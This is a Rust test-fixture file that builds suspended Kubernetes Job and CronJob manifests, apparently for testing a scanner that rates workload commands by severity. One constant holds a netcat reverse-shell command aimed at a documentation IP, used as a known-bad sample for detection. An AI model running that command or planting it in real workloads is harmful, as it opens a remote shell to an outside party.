//! Workloads for the tests. All are suspended: no Pods and no Jobs come of them by themselves.

use serde_json::{Value, json};

/// A command that nothing is found in.
pub(crate) const BENIGN: &[&str] = &["backup", "--database", "orders"];
/// A command that is severity High by itself.
pub(crate) const REVERSE_SHELL: &[&str] = &["/bin/sh", "-c", "nc 192.0.2.10 4444 -e /bin/sh"];

/// A Job that runs `command` on an image that nothing is found in.
pub(crate) fn job(namespace: &str, name: &str, command: &[&str]) -> Value {
    json!({
        "apiVersion": "batch/v1",
        "kind": "Job",
        "metadata": { "name": name, "namespace": namespace },
        "spec": { "suspend": true, "template": template(command) },
    })
}

/// A CronJob that would run `command` on an image that nothing is found in.
pub(crate) fn cron_job(namespace: &str, name: &str, command: &[&str]) -> Value {
    json!({
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": { "name": name, "namespace": namespace },
        "spec": {
            "suspend": true,
            "schedule": "0 3 * * *",
            "jobTemplate": { "spec": { "template": template(command) } },
        },
    })
}

fn template(command: &[&str]) -> Value {
    json!({ "spec": {
        "restartPolicy": "Never",
        "containers": [{
            "name": "main",
            "image": "registry.example.test/team/tool:1.0",
            "command": command,
        }],
    } })
}
